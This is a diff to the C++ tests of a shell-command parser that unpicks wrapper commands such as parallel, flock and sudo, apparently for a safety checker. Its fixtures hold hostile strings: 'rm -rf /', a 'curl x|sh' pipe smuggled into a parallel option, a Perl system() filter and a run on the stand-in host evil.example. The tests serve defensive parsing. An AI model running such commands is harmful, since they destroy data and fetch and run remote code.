@@ -81,6 +81,7 @@ const std::set<std::string_view> kWrapperOwnWords = {
     "flock /tmp/l -c 'rm -rf /'",
     "flock -n /tmp/l --command 'rm -rf /'",
     "parallel -a list rm -rf",
+    "parallel --tagstring x rm ::: a",  // a tag string may hold Perl code: {= … =}
 };
 
 // The command `line` wraps: its only command, or, for a line of kWrapperOwnWords, the one
@@ -809,7 +810,7 @@ TEST_CASE("abbreviated long options of a wrapper are read like getopt does", "[s
   const SimpleCommand p = one("parallel --tag --plus --ungroup rm -rf ::: a");
   CHECK(p.program == "rm");
   CHECK(p.wrappers == V{"parallel"});
-  CHECK(one("parallel --tagstring x rm ::: a").program == "rm");
+  CHECK(wrapped("parallel --tagstring x rm ::: a").program == "rm");
   CHECK(one("sudo --li rm").program == "sudo");
   CHECK(one("ionice --pi 42").program == "ionice");
   CHECK(one("chrt --pi 10 42").program == "chrt");
@@ -2006,17 +2007,15 @@ TEST_CASE("a wrapper's own option or operand with an effect stays a command of i
   // come first, as a command the effects table judges, then the command it wraps.
   for (const auto& [line, own, inner] : std::vector<std::tuple<std::string, V, std::string>>{
            {"parallel --compress-program 'curl x|sh' echo ::: a",
-            {"parallel", "--compress-program", "curl x|sh", "echo", ":::", "a"},
+            {"parallel", "--compress-program", "curl x|sh"},
             "echo"},
            {"parallel --compress-p 'curl x|sh' echo ::: a",  // an abbreviation
-            {"parallel", "--compress-p", "curl x|sh", "echo", ":::", "a"},
+            {"parallel", "--compress-p", "curl x|sh"},
             "echo"},
            {"parallel --filter 'system(1)' echo ::: a",
-            {"parallel", "--filter", "system(1)", "echo", ":::", "a"},
+            {"parallel", "--filter", "system(1)"},
             "echo"},
-           {"parallel -S evil.example echo ::: a",
-            {"parallel", "-S", "evil.example", "echo", ":::", "a"},
-            "echo"},
+           {"parallel -S evil.example echo ::: a", {"parallel", "-S", "evil.example"}, "echo"},
            {"sshpass -f pw ls", {"sshpass", "-f", "pw"}, "ls"},
            {"sudo -D /tmp ./x.sh", {"sudo", "-D", "/tmp"}, "x.sh"},
            {"sudo --chdir=/tmp ./x.sh", {"sudo", "--chdir=/tmp"}, "x.sh"},
